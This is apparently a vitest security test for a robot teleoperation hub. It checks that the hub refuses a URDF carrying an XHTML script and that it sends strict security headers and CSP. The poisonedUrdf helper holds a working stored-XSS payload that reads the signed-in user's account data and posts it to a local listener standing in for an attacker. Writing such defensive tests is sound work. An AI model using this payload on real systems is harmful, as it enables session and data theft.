// Issue 15, point 9: a robot's URDF cannot carry script onto the hub's origin.
// A robot publishes a description whose URDF holds an XHTML <script> (real
// hub, real embedded broker); a signed-in operator opens the URDF's address in
// real headless Chromium. The script must not run, the hub must refuse the
// URDF on arrival saying why, a good URDF must be served as a download with
// nosniff, every hub response carries the security headers, and the console
// still works under its Content-Security-Policy.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import mqtt, { type MqttClient } from 'mqtt';
import { robotTopic, v1 } from '@teleop/proto';
import { ensureSignedIn, openBrowser, type TestBrowser } from '../harness/browser.ts';
import { keyFor, signIn } from '../harness/signIn.ts';
import { enrollRobot, eventually, metric, PATIENCE_MS, startHub, tempDir, type RobotCredentials, type RunningHub } from '../harness/processes.ts';

const JOINTS = [{ name: 'elbow', unit: 'rad', minPosition: -1, maxPosition: 1, maxVelocity: 1 }];
const GOOD_URDF =
  '<?xml version="1.0"?>\n<robot name="arm"><link name="a"/><joint name="elbow" type="revolute"><parent link="a"/><child link="b"/><limit lower="-1" upper="1" velocity="1" effort="1"/></joint><link name="b"/></robot>';

/** A URDF that, rendered as XML on the hub's origin, runs script with the viewer's session and sends what it read to `sink`. */
function poisonedUrdf(sink: string): string {
  return `<?xml version="1.0"?>
<robot name="arm">
  <link name="a"/>
  <joint name="elbow" type="revolute"><parent link="a"/><child link="b"/><limit lower="-1" upper="1" velocity="1" effort="1"/></joint>
  <link name="b"/>
  <script xmlns="http://www.w3.org/1999/xhtml">
    window.__urdfScriptRan = true;
    fetch('/api/v1/auth/me').then((r) => r.text()).then((me) => fetch('${sink}', { method: 'POST', mode: 'no-cors', body: me }));
  </script>
</robot>`;
}

function describeWith(robotId: string, urdf: string): Buffer {
  return Buffer.from(v1.RobotDescription.encode({ robotId, model: 'so101_sim', joints: JOINTS, controlModes: [1], urdf }).finish());
}

describe('stored XSS through a robot URDF (issue 15, point 9)', () => {
  const data = tempDir('sec-xss');
  let hub: RunningHub;
  let robot: RobotCredentials;
  let client: MqttClient;
  let browser: TestBrowser;
  let sink: Server;
  let sinkUrl: string;
  /** What the attacker's listener received. */
  const stolen: string[] = [];

  beforeAll(async () => {
    robot = await enrollRobot(data.path, 'poisoned arm');
    hub = await startHub(data.path);
    client = await mqtt.connectAsync(hub.mqttUrl, { clientId: robot.robotId, username: robot.robotId, password: robot.secret, protocolVersion: 4, reconnectPeriod: 0 });
    sink = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString('utf8')));
      req.on('end', () => {
        stolen.push(`${req.method} ${req.url} ${body}`);
        res.end();
      });
    });
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve));
    sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/stolen`;
    // A signed-in operator: the session cookie the console would hold.
    const { token } = await signIn(hub.url, keyFor('xss-victim'));
    browser = await openBrowser(`${hub.url}/api/v1/health`);
    await browser.context.addCookies([{ name: 'teleop_session', value: token, url: hub.url, httpOnly: true, sameSite: 'Strict' }]);
  });

  afterAll(async () => {
    await browser?.close();
    await client?.endAsync();
    await hub?.process.stop();
    await new Promise((resolve) => sink?.close(resolve));
    data.remove();
  });

  it('refuses a URDF with script on arrival, saying why, and no script runs when its address is opened', async () => {
    await client.publishAsync(robotTopic(robot.robotId, 'describe'), describeWith(robot.robotId, poisonedUrdf(sinkUrl)), { qos: 1, retain: true });
    const urdfUrl = `${hub.url}/api/v1/robots/${robot.robotId}/urdf`;
    // Whichever way the hub decides, it has decided once the address stops saying "not announced".
    const first = await eventually(async () => {
      const res = await fetch(urdfUrl);
      const body = await res.text();
      return res.status === 404 && body.includes('no_urdf') ? undefined : { status: res.status, body };
    }, undefined, 'the hub to handle the description');

    await browser.page.goto(urdfUrl);
    expect(await browser.page.evaluate(() => (window as { __urdfScriptRan?: boolean }).__urdfScriptRan ?? false)).toBe(false);

    expect(first.status).toBe(422);
    expect(JSON.parse(first.body)).toMatchObject({ error: 'urdf_refused' });
    expect(JSON.parse(first.body).message).toMatch(/script/);
    await hub.process.waitForLog((l) => l.msg.includes(`dropped message from robot ${robot.robotId}`) && l.msg.includes('URDF') && l.msg.includes('script'));
    expect(await metric(hub.url, 'teleop_messages_dropped_total', { source: 'robot', reason: 'bad_urdf' })).toBeGreaterThanOrEqual(1);
    // Nothing reached the attacker's listener, and the hub keeps serving.
    expect(stolen).toEqual([]);
    expect(((await (await fetch(`${hub.url}/api/v1/health`)).json()) as { status: string }).status).toBe('ok');
  });

  it('serves a good URDF as a download that no browser renders or sniffs', async () => {
    await client.publishAsync(robotTopic(robot.robotId, 'describe'), describeWith(robot.robotId, GOOD_URDF), { qos: 1, retain: true });
    const res = await eventually(async () => {
      const r = await fetch(`${hub.url}/api/v1/robots/${robot.robotId}/urdf`);
      return r.status === 200 ? r : undefined;
    }, undefined, 'the good URDF served');
    expect(await res.text()).toBe(GOOD_URDF);
    expect(res.headers.get('content-type')).toMatch(/^text\/plain/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${robot.robotId}.urdf"`);
    expect(res.headers.get('content-security-policy')).toMatch(/sandbox/);
    expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
  });

  it('puts security headers on every hub response, and a script-tight CSP on the console', async () => {
    const responses = [
      await fetch(`${hub.url}/`),
      await fetch(`${hub.url}/api/v1/health`),
      await fetch(`${hub.url}/api/v1/robots`),
      await fetch(`${hub.url}/api/v1/no-such-route`),
      await fetch(`${hub.url}/api/v1/auth/me`),
      await fetch(`${hub.url}/api/v1/auth/verify`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
      await fetch(`${hub.url}/socket.io/?EIO=4&transport=polling`),
    ];
    for (const res of responses) {
      const where = `${res.status} ${res.url}`;
      expect(res.headers.get('x-content-type-options'), where).toBe('nosniff');
      expect(res.headers.get('referrer-policy'), where).toBe('no-referrer');
      expect(res.headers.get('content-security-policy'), where).toMatch(/frame-ancestors 'none'/);
      expect(res.headers.get('x-frame-options'), where).toBe('DENY');
    }
    const consoleCsp = responses[0]!.headers.get('content-security-policy') ?? '';
    expect(responses[0]!.headers.get('content-type')).toMatch(/^text\/html/);
    expect(consoleCsp).toMatch(/script-src 'self' 'wasm-unsafe-eval'(;|$)/);
    expect(consoleCsp).toMatch(/object-src 'none'/);
    expect(consoleCsp).toMatch(/base-uri 'none'/);
    expect(consoleCsp).not.toContain("'unsafe-eval'");
    expect(consoleCsp).not.toContain("'unsafe-inline'");
    for (const res of responses.slice(1, 6)) expect(res.headers.get('content-security-policy')).toMatch(/default-src 'none'/);
  });

  it('leaves the console working under its CSP: it loads, signs in and links to the hub with nothing blocked', async () => {
    await browser.page.goto(hub.url);
    await ensureSignedIn(browser.page);
    await browser.page.getByText('poisoned arm').first().waitFor({ timeout: PATIENCE_MS });
    expect(browser.cspViolations).toEqual([]);
    // A reload is answered 304 (not modified), whose headers the browser takes for the page it keeps: they must
    // carry the console's policy too, or the page's own scripts are blocked.
    await browser.page.reload();
    await browser.page.getByText('poisoned arm').first().waitFor({ timeout: PATIENCE_MS });
    expect(browser.cspViolations).toEqual([]);
  });
});
